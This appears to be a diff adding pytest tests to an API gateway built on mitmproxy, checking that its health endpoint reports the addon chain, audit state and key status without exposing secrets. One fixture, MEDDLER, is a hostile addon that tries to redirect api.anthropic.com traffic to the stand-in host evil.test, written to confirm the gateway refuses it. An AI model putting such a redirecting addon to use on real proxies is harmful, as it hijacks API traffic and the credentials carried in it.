@@ -7,7 +7,7 @@ import base64
 import pytest
 
 from api import DANA, POLICY, VERA, Api, error
-from harness import VK, Gateway
+from harness import ADDONS, PROVIDER_KEY, VK, Gateway, eventually, policy_text
 from sluicegate.sessions import FREE
 
 pytestmark = pytest.mark.wire
@@ -199,3 +199,55 @@ def test_no_cookie_and_no_token_is_written_down(gateway, verbosity):
     assert "/api/session/login" in written
     for secret in (session_id, DANA, "another-secret"):
         assert secret not in written
+
+
+# -- health -----------------------------------------------------------------------------------------------------------
+
+
+def test_health_in_full_tells_the_chain_in_order_with_its_time_and_no_secret(gateway, provider):
+    gw = gateway(policy_text(provider.url))
+    assert gw.post().status == 200
+    gw.calls(1)
+    found = gw.admin("/api/health").json
+    names = [a["addon"] for a in found["chain"]]
+    ours = ["admin", "identity", "egress", "meter", "access", "ratelimit", "budget", "keys", "audit", "live", "lastgate"]
+    assert [n for n in names if n in ours] == ours
+    by_name = {a["addon"]: a for a in found["chain"]}
+    (reserve,) = (h for h in by_name["budget"]["hooks"] if h["hook"] == "request")
+    assert reserve["calls"] >= 1
+    assert 0 < reserve["seconds"] < 1
+    assert 0 < by_name["budget"]["us_per_call"] < 1e6
+    assert (found["status"], found["draining"], found["options_refused"]) == ("ok", False, [])
+    assert found["ledger"]["counters"] == 4
+    assert found["ledger"]["bytes"] > 0
+    assert found["audit"] == {"mode": "required", "error": None, "lag_ms": 0, "backlog": 0}
+    assert found["providers"]["anthropic"]["keys"] == [
+        {"name": "key-1", "source": "env.PROVIDER_KEY", "usable": True, "set_aside_until": None}
+    ]
+    assert {e["what"]: e["how"] for e in found["enforcement"]}["way"] == "cooperative"
+    assert PROVIDER_KEY not in str(found)
+    assert gw.request("GET", "/api/health", headers={"x-api-key": VK}).status == 403
+    gw.policy.write_text("version: 1\nvirtual_kays: []\n")
+    broken = eventually(lambda: (f := gw.admin("/api/health").json)["policy"]["error"] and f)
+    assert (broken["status"], broken["policy"]["error"]["line"], broken["policy"]["reload_errors"]) == ("degraded", 2, 1)
+
+
+MEDDLER = """
+import contextlib
+from mitmproxy import ctx, exceptions
+class Meddler:
+    def request(self, flow):
+        with contextlib.suppress(exceptions.OptionsError):
+            ctx.options.update(map_remote=["|//api.anthropic.com|//evil.test"])
+addons = [Meddler()]
+"""
+
+
+def test_an_option_that_somebody_tried_to_set_is_told(gateway, tmp_path):
+    script = tmp_path / "meddler.py"
+    script.write_text(MEDDLER)
+    gw = gateway(None, scripts=[script, ADDONS / "gateway.py"])
+    gw.request("GET", "/setup")
+    (refused,) = gw.admin("/api/health").json["options_refused"]
+    assert refused["option"] == "map_remote"
+    assert "redirects requests after they were judged" in refused["why"]
